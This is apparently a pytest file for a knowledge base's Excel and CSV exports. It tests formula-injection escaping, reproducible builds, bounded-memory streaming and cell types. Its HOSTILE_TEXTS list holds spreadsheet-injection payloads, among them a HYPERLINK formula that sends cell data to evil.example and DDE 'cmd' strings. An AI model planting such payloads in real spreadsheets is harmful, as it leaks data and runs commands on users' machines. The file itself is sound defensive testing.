"""Excel and CSV exports, piece by piece (kb.views.sheets, kb.views.exports): text from the
data never becomes a formula, the files are byte-identical across builds (time, time zone),
rows are streamed in bounded memory, and each value keeps its type."""

from __future__ import annotations

import csv
import datetime as dt
import json
import shutil
import time
import tracemalloc
import zipfile
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
import yaml

from conftest import DATA
from kb.markup.cache import BuildCache
from kb.markup.render import SiteSettings
from kb.site import build
from kb.views import exports, sheets

CREATED = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
HOSTILE_TEXTS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
TEXT = sheets.Sheet("测试", [sheets.Column("单位"), sheets.Column("数", "number")],
                    lambda: [[t, 1] for t in HOSTILE_TEXTS])


def read_csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM: Excel opens it as UTF-8
    return list(csv.reader(raw[3:].decode("utf-8").splitlines(keepends=True)))


@pytest.mark.parametrize("text", HOSTILE_TEXTS)
def test_formula_text_is_a_string_cell_in_the_workbook(tmp_path: Path, text: str) -> None:
    path = tmp_path / "t.xlsx"
    sheets.write_xlsx(path, TEXT, CREATED)
    ws = openpyxl.load_workbook(path).active
    cells = {ws.cell(row, 1).value: ws.cell(row, 1).data_type for row in range(2, ws.max_row + 1)}
    assert cells[text.replace("\r", "_x000D_")] == "s"  # a string, not "f" (formula); \r as Excel escapes it
    assert "<f>" not in zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("text", HOSTILE_TEXTS)
def test_formula_text_gets_an_apostrophe_in_the_csv(tmp_path: Path, text: str) -> None:
    path = tmp_path / "t.csv"
    sheets.write_csv(path, TEXT)
    column = [row[0] for row in read_csv(path)[1:]]
    assert "'" + text in column
    assert not any(cell.startswith(sheets.FORMULA_START) for cell in column)


@pytest.mark.parametrize("value", ["市财政局", "2023-05-01", "—", "'已有撇号", "5"])
def test_plain_text_is_left_alone_in_the_csv(value: str) -> None:
    assert sheets.csv_text(value) == value


@pytest.fixture()
def hostile_data(tmp_path: Path) -> Path:
    """The example data with a unit, a group and a ledger item whose texts are formulas."""
    data = tmp_path / "data"
    shutil.copytree(DATA, data)
    for name, key, text in (("units.yml", "units", HOSTILE_TEXTS[0]),
                            ("groups.yml", "groups", HOSTILE_TEXTS[2])):
        path = data / name
        doc = yaml.safe_load(path.read_text(encoding="utf-8"))
        doc[key][0]["name"] = text
        path.write_text(yaml.safe_dump(doc, allow_unicode=True), encoding="utf-8")
    report = data / "reports" / "2023-zhuti" / "shi-czj.yml"
    text = report.read_text(encoding="utf-8")
    report.write_text(text.replace("problem: ", f"problem: {json.dumps(HOSTILE_TEXTS[3])} # ", 1),
                      encoding="utf-8")
    return data


def site_for(kb, site: Path) -> Path:
    """A site folder with the pages the exports sit next to."""
    for download, _ in exports.exports(kb, SiteSettings(build_date="2026-01-01"), BuildCache()):
        folder = download.folder(site)
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "index.html").write_text("<p>页面</p>", encoding="utf-8")
    return site


def test_a_hostile_unit_name_is_text_in_every_export(hostile_data: Path, tmp_path: Path) -> None:
    kb, _ = build.load(hostile_data)
    site = site_for(kb, tmp_path / "site")
    exports.write_exports(kb, SiteSettings(build_date="2026-01-01"), site, BuildCache())
    found = {"xlsx": 0, "csv": 0}
    for path in sorted(site.rglob("*.xlsx")):
        for row in openpyxl.load_workbook(path).active.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path, cell.coordinate, cell.value)
                found["xlsx"] += cell.value in HOSTILE_TEXTS
        assert "<f>" not in zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
    for path in sorted(site.rglob("*.csv")):
        for row in read_csv(path):
            assert not any(cell.startswith(sheets.FORMULA_START) for cell in row), (path, row)
            found["csv"] += sum(cell[1:] in HOSTILE_TEXTS for cell in row if cell.startswith("'"))
    # the unit is in the comparison, submission, ranking and ledgers; the group too; the item
    assert found["xlsx"] >= 8 and found["csv"] == found["xlsx"]


@pytest.fixture(scope="module")
def kb():
    model, _ = build.load(DATA)
    return model


def write_all(kb, site: Path) -> dict[str, bytes]:
    site_for(kb, site)
    exports.write_exports(kb, SiteSettings(build_date="2026-01-01"), site, BuildCache())
    return {str(p.relative_to(site)): p.read_bytes()
            for p in sorted(site.rglob("*")) if p.suffix in {".xlsx", ".csv"}}


def test_two_builds_write_the_same_bytes(kb, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    first = write_all(kb, tmp_path / "a")
    time.sleep(1.1)  # a timestamp taken from the clock would differ
    monkeypatch.setenv("TZ", "Pacific/Kiritimati")
    time.tzset()
    try:
        second = write_all(kb, tmp_path / "b")
    finally:
        monkeypatch.undo()
        time.tzset()
    # 2 campaigns × (compare, submission, ranking, ledger) + all items, and per campaign ×
    # group (compare, ledger, submission); .xlsx and .csv
    groups = sum(len(exports.campaign_stats(kb, c).groups) for c in kb.campaigns.values())
    assert len(first) == 2 * (9 + 3 * groups)
    assert sum("/upward/" in name for name in first) == 6 * groups > 0
    assert first == second


def test_the_document_time_is_the_build_date(kb, tmp_path: Path) -> None:
    write_all(kb, tmp_path)
    book = openpyxl.load_workbook(tmp_path / "views" / "ledger" / "ledger.xlsx")
    assert book.properties.created == dt.datetime(2026, 1, 1)
    for info in zipfile.ZipFile(tmp_path / "views" / "ledger" / "ledger.xlsx").infolist():
        assert info.date_time[:3] == (1980, 1, 31), info.filename  # fixed zip entry times


def test_an_export_step_without_its_page_fails_in_chinese(kb, tmp_path: Path) -> None:
    with pytest.raises(RuntimeError, match="不存在，无法放置下载文件"):
        exports.write_exports(kb, SiteSettings(build_date="2026-01-01"), tmp_path, BuildCache())


# --- bounded memory -----------------------------------------------------------------------

def long_sheet(n: int) -> sheets.Sheet:
    columns = [sheets.Column("单位"), sheets.Column("问题", width=40), sheets.Column("数", "number"),
               sheets.Column("日期", "date"), sheets.Column("比例", "percent")]

    def rows() -> Iterator[list]:
        for i in range(n):
            yield [f"单位{i}", f"第{i}个问题：" + "整改措施落实不到位" * 4, i, "2024-03-01", i / n]

    return sheets.Sheet("长表", columns, rows)


def peak_bytes(write, n: int, path: Path) -> int:
    tracemalloc.start()
    try:
        write(path, long_sheet(n))
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("write", [
    pytest.param(lambda p, s: sheets.write_xlsx(p, s, CREATED), id="xlsx"),
    pytest.param(sheets.write_csv, id="csv"),
])
def test_rows_are_streamed_in_bounded_memory(write, tmp_path: Path) -> None:
    small = peak_bytes(write, 1_000, tmp_path / "small")
    large = peak_bytes(write, 20_000, tmp_path / "large")
    assert (tmp_path / "large").stat().st_size > 10 * (tmp_path / "small").stat().st_size / 2
    # 20 times the rows; a workbook kept in memory would take ~20 times the memory
    assert large < small + 2_000_000, (small, large)


def test_values_keep_their_types(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    assert sheets.write_xlsx(path, long_sheet(3), CREATED) == 3
    ws = openpyxl.load_workbook(path).active
    unit, problem, number, date, share = (ws.cell(3, c) for c in range(1, 6))
    assert unit.data_type == "s" and number.value == 1 and isinstance(number.value, int)
    assert date.is_date and date.value == dt.datetime(2024, 3, 1) and date.number_format == "yyyy-mm-dd"
    assert share.value == pytest.approx(1 / 3) and share.number_format == "0.0%"
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:E4" and ws.title == "长表"
    assert ws.column_dimensions["B"].width > 40


def test_a_word_in_a_date_column_stays_text(tmp_path: Path) -> None:
    sheet = sheets.Sheet("台账", [sheets.Column("完成时限", "date")], lambda: [["长期坚持"], ["-1"]])
    sheets.write_xlsx(tmp_path / "t.xlsx", sheet, CREATED)
    sheets.write_csv(tmp_path / "t.csv", sheet)
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    assert [ws.cell(r, 1).value for r in (2, 3)] == ["长期坚持", "-1"]
    assert read_csv(tmp_path / "t.csv")[1:] == [["长期坚持"], ["'-1"]]


def test_empty_values_are_empty_cells(tmp_path: Path) -> None:
    sheet = sheets.Sheet("空", [sheets.Column("a"), sheets.Column("b", "number"),
                               sheets.Column("c", "date"), sheets.Column("d", "percent")],
                         lambda: [["", None, None, None]])
    sheets.write_xlsx(tmp_path / "t.xlsx", sheet, CREATED)
    sheets.write_csv(tmp_path / "t.csv", sheet)
    assert list(openpyxl.load_workbook(tmp_path / "t.xlsx").active.iter_rows(2, 2, values_only=True)) == [(None,) * 4]
    assert read_csv(tmp_path / "t.csv")[1] == [""] * 4

